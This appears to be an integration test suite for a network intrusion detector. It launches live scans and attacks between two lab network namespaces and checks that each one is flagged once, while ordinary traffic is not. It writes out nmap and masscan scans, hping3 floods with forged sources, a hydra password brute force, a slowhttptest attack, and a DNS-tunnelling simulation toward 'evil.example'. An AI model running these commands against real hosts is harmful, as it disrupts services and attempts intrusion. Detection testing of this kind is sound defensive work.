// Live attacks and honest loads between two namespaces: named in time, with the right source, once; and silence.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, afterEach, before, describe, test } from 'node:test';
import { lastLines } from '../support/labels.js';
import { makePair, type Pair } from '../support/namespaces.js';
import { type Line, type RunningProgram, startProgram } from '../support/program.js';

const victim = '10.77.0.2';
const attacker = '10.77.0.1';
/** Evidence, the end of its tick, a whole further tick of silence, and what a loaded machine adds. */
const LIMIT_MS = 20_000;
/** Loading waits for the verifier, and that for a core. */
const START_MS = 60_000;

let pair: Pair;
const running = new Set<RunningProgram>();

before(() => {
  pair = makePair('dt');
  const server = `require('http').createServer((q,a)=>{if(q.url==='/private')a.statusCode=401;a.end('ok')}).listen(80);
    require('dgram').createSocket('udp4').on('message',function(m,r){m[2]|=128;m[3]&=240;this.send(m,r.port,r.address)}).bind(53)`;
  pair.right.start(process.execPath, '-e', server);
});

afterEach(() => {
  // A test that failed half-way leaves nothing that runs.
  for (const program of running) program.child.kill('SIGKILL');
  running.clear();
});

after(() => pair?.remove());

async function watch(...options: string[]): Promise<RunningProgram> {
  const program = startProgram(['veth0', '--json', '--limit', '0', ...options], {
    namespace: pair.right,
  });
  running.add(program);
  await program.waitFor('start', (line) => line['type'] === 'start', START_MS);
  return program;
}

async function stop(program: RunningProgram): Promise<Line[]> {
  program.child.kill('SIGTERM');
  const { status } = await program.exit();
  assert.equal(status, 0, program.stderr);
  return lastLines(program.lines);
}

const missing = (tool: string): string | false =>
  spawnSync('which', [tool]).status === 0 ? false : `${tool} is not installed`;

interface Attack {
  readonly kind: string;
  readonly command: readonly [string, ...string[]];
  /** null: forged, so the alert has none. */
  readonly source?: string | null;
}

/** One after the other before one running program: each is named, and nothing else of medium or above is. */
async function attackAll(attacks: readonly Attack[], also: readonly string[] = []): Promise<void> {
  const program = await watch();
  for (const { kind, command, source = attacker } of attacks) {
    const [file, ...args] = command;
    const result = pair.left.run(file, ...args);
    assert.notEqual(result.status, null, `${file} did not end`);
    const alert = await program.waitFor(
      `an alert ${kind}`,
      (line) => line['type'] === 'alert' && line['kind'] === kind,
      LIMIT_MS,
    );
    assert.equal(alert['source']?.address ?? null, source, alert['message']);
  }
  const alerts = await stop(program);
  const wanted = new Set([...attacks.map(({ kind }) => kind), ...also]);
  const others = alerts.filter(
    ({ kind, severity }) => !wanted.has(kind) && !['info', 'low'].includes(severity),
  );
  assert.deepEqual(
    others.map(({ message }) => message),
    [],
  );
  for (const { kind } of attacks) {
    const ids = alerts.filter((alert) => alert['kind'] === kind).length;
    assert.equal(ids, 1, `${ids} alerts for one ${kind}`);
  }
}

const nmap = (...args: string[]): Attack['command'] => [
  'nmap',
  '-n',
  '-Pn',
  '--max-retries',
  '0',
  ...args,
  victim,
];
const hping = (...args: string[]): Attack['command'] => [
  'timeout',
  '20',
  'hping3',
  '-q',
  ...args,
  victim,
];

describe('attacks, live', () => {
  test('nmap: connect, SYN, FIN, NULL, XMAS, ACK, UDP, ping sweep', { skip: missing('nmap') }, () =>
    attackAll(
      [
        { kind: 'port_scan_connect', command: nmap('-sT', '-p', '1-200') },
        { kind: 'port_scan_syn', command: nmap('-sS', '-p', '1-300') },
        { kind: 'port_scan_fin', command: nmap('-sF', '-p', '1-100') },
        { kind: 'port_scan_null', command: nmap('-sN', '-p', '1-100') },
        { kind: 'port_scan_xmas', command: nmap('-sX', '-p', '1-100') },
        { kind: 'port_scan_ack', command: nmap('-sA', '-p', '1-100') },
        { kind: 'port_scan_udp', command: nmap('-sU', '-p', '1000-1099') },
        { kind: 'arp_scan', command: ['nmap', '-n', '-sn', '10.77.0.0/24'] },
      ],
      // XMAS and NULL probes together are an OS detection, too.
      ['os_fingerprint'],
    ),
  );

  test(
    'hping3: floods of UDP, ICMP and SYN, from one source and forged',
    { skip: missing('hping3') },
    () =>
      attackAll([
        { kind: 'udp_flood', command: hping('--udp', '-p', '9', '-i', 'u300', '-c', '6000') },
        { kind: 'icmp_flood', command: hping('--icmp', '-i', 'u300', '-c', '6000') },
        {
          kind: 'syn_flood',
          command: hping('-S', '-p', '80', '--rand-source', '-i', 'u300', '-c', '6000'),
          source: null,
        },
      ]),
  );

  test('a scan hidden in a SYN flood that fills the flow table', {
    skip: missing('nmap') || missing('hping3'),
  }, async () => {
    const program = await watch('--max-flows', '1024');
    const flood = pair.left.start(
      'timeout',
      '15',
      'hping3',
      '-q',
      '-S',
      '-p',
      '80',
      '--rand-source',
      '-i',
      'u100',
      victim,
    );
    await program.waitFor('the flood', (line) => line['kind'] === 'syn_flood', LIMIT_MS);
    pair.left.run(...(nmap('-sS', '-p', '1-200', '--max-rate', '200') as [string, ...string[]]));
    const alert = await program.waitFor(
      'the scan',
      (line) => line['kind'] === 'port_scan_syn',
      LIMIT_MS,
    );
    flood.kill('SIGTERM');
    assert.equal(alert['source']?.address, attacker);
    await stop(program);
    const { untracked } = program.summary;
    assert.ok(untracked.packets > 0, 'the table was full');
  });

  test('masscan', { skip: missing('masscan') }, () =>
    attackAll([
      {
        kind: 'port_scan_syn',
        command: [
          'masscan',
          '--rate',
          '500',
          '-p',
          '1-300',
          '--wait',
          '0',
          '--interface',
          'veth0',
          '--source-ip',
          '10.77.0.1',
          '--router-mac',
          victimMac(),
          victim,
        ],
      },
    ]),
  );

  test('hydra against HTTP', { skip: missing('hydra') }, async () => {
    const folder = mkdtempSync(join(tmpdir(), 'hydra-'));
    const passwords = join(folder, 'passwords');
    writeFileSync(passwords, Array.from({ length: 40 }, (_, i) => `pw${i}`).join('\n'));
    const url = `http-get://${victim}/private`;
    try {
      await attackAll(
        [
          {
            kind: 'brute_force',
            command: ['hydra', '-q', '-t', '4', '-l', 'admin', '-P', passwords, url],
          },
        ],
        ['cleartext_credentials'],
      );
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  test('slowhttptest', { skip: missing('slowhttptest') }, () =>
    attackAll([
      {
        kind: 'slow_http',
        command: [
          'slowhttptest',
          '-H',
          '-c',
          '120',
          '-r',
          '60',
          '-i',
          '3',
          '-l',
          '12',
          '-u',
          `http://${victim}/`,
        ],
      },
    ]),
  );

  test('data in DNS names, as iodine and dnscat do', () =>
    attackAll([
      { kind: 'dns_tunnel', command: [process.execPath, '-e', dnsQueries(90, 'random')] },
    ]));
});

describe('honest loads, live', () => {
  test('web requests, DNS bursts, scraping and a bulk transfer make no alert of medium or above', async () => {
    const program = await watch();
    const requests = `const h=require('http');let n=0;const go=()=>{if(n++<150)h.get('http://${victim}/',r=>{r.resume();r.on('end',go)})};go();go()`;
    const scrape = `const h=require('http');let n=0;const t=setInterval(()=>{h.get('http://${victim}/metrics',r=>r.resume());if(++n>8)clearInterval(t)},700)`;
    pair.left.run(process.execPath, '-e', requests);
    pair.left.run(process.execPath, '-e', dnsQueries(300, 'names'));
    pair.left.run(process.execPath, '-e', scrape);
    pair.left.run('ping', '-q', '-c', '20', '-i', '0.05', '-s', '3000', victim);
    pair.right.start('iperf3', '-s', '-1');
    pair.left.run(
      'bash',
      '-c',
      `for i in 1 2 3 4 5; do iperf3 -c ${victim} -n 100M -P 4 >/dev/null 2>&1 && break; sleep 0.3; done`,
    );
    const alerts = await stop(program);
    assert.deepEqual(
      alerts
        .filter(({ severity }) => !['info', 'low'].includes(severity))
        .map(({ message }) => message),
      [],
    );
  });
});

function victimMac(): string {
  const [link] = JSON.parse(pair.right.ip('-j', 'link', 'show', 'veth0')) as { address: string }[];
  return link!.address;
}

/** A script that asks the victim's resolver for `count` names: long and random ones, or thirty honest ones again and again. */
function dnsQueries(count: number, shape: 'random' | 'names'): string {
  return `const s=require('dgram').createSocket('udp4');const {randomBytes}=require('crypto');let n=0;
    const name=i=>${shape === 'random' ? "randomBytes(28).toString('hex')+'.t.evil.example'" : "'host'+(i%30)+'.example.org'"};
    const ask=()=>{const q=[Buffer.from([n>>8,n&255,1,0,0,1,0,0,0,0,0,0])];
      for(const l of name(n).split('.')){q.push(Buffer.from([l.length]),Buffer.from(l))}
      q.push(Buffer.from([0,0,${shape === 'random' ? 16 : 1},0,1]));s.send(Buffer.concat(q),53,'${victim}');
      if(++n<${count})setTimeout(ask,8);else setTimeout(()=>s.close(),200)};ask()`;
}
